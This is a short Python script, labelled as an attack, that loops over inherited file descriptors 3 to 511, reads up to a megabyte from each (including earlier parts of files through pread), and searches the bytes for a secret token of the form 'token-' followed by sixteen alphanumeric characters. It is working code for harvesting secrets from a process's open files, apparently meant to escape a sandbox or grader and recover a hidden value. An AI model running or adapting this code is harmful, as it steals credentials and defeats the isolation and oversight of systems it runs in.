# attack: reads all that it was started with, also what stands further back in a file
import os
def look(text):
    at = text.find(b"token-")
    while at >= 0:
        word = text[at:at + 22]
        if word[6:].isalnum() and len(word) == 22: return word.decode()
        at = text.find(b"token-", at + 1)

def double(n):
    for number in range(3, 512):
        try:
            os.set_blocking(number, False)
            if found := look(os.pread(number, 1 << 20, 0)): return found
        except OSError: pass
        try:
            if found := look(os.read(number, 1 << 20)): return found
        except OSError: pass
